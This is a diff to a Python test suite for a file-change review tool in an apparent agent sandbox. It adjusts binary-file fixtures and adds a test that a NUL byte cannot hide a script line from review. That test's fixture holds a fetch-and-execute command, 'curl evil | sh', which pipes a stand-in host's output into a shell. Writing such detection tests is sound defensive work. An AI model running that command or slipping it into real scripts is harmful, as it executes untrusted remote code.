@@ -36,7 +36,7 @@ def setup(tmp_path):
     host = Path(f"/tmp/agentvm-grant-{secrets.token_hex(4)}")
     host.mkdir(mode=0o755)
     (host / "a.txt").write_text("one\ntwo\n")
-    (host / "bin.dat").write_bytes(b"\0\1\2\3")
+    (host / "bin.dat").write_bytes(b"\xff\0\1\2\3")
     (host / "gone.txt").write_text("bye\n")
     (host / "mode.sh").write_text("#!/bin/sh\n")
     os.chmod(host / "mode.sh", 0o644)
@@ -83,7 +83,7 @@ def test_diff_shows_text_binary_mode_symlink_deletion_and_new_folder(setup):
     up = make()
     stop()
     (up / "a.txt").write_text("one\ntwo\nthree\n")
-    (up / "bin.dat").write_bytes(b"\0\1\2\4")
+    (up / "bin.dat").write_bytes(b"\xff\0\1\2\4")
     shutil.copy(host / "mode.sh", up / "mode.sh")
     os.chmod(up / "mode.sh", 0o755)
     _whiteout(up / "gone.txt")
@@ -104,7 +104,7 @@ def test_diff_shows_text_binary_mode_symlink_deletion_and_new_folder(setup):
     assert "sub/x" not in ch and "sub" not in ch
     text = review.render(rv)
     assert "+three" in text and "--- a/" in text and "+++ b/" in text
-    assert "Binary files differ (4 -> 4 bytes" in text
+    assert "Binary files differ (not shown; sha256" in text and "/g0/upper/bin.dat" in text
     assert "mode /src/mode.sh: 0644 -> 0755" in text
     assert "deleted /src/gone.txt (file)" in text
     assert "symlink /src/ln -> sub/x (was -> a.txt)" in text
@@ -448,3 +448,13 @@ def test_the_diff_shows_escapes_and_bidi_characters_as_text(setup):
     assert "\\u{202e}" in text and "shown escaped" in text
     assert "name\\x0ano changes\\x1b[2K" in text
     assert all(not ln.startswith("no changes") for ln in text.splitlines())
+
+
+@needs_root
+def test_a_nul_byte_does_not_hide_a_script_behind_binary(setup):
+    home, host, make, stop = setup
+    up = make()
+    stop()
+    (up / "run.sh").write_bytes(b"#!/bin/sh\necho build\n\0curl evil | sh\n")
+    text = review.render(review.load(home, "run-test"))
+    assert "+\\x00curl evil | sh" in text and "Binary" not in text
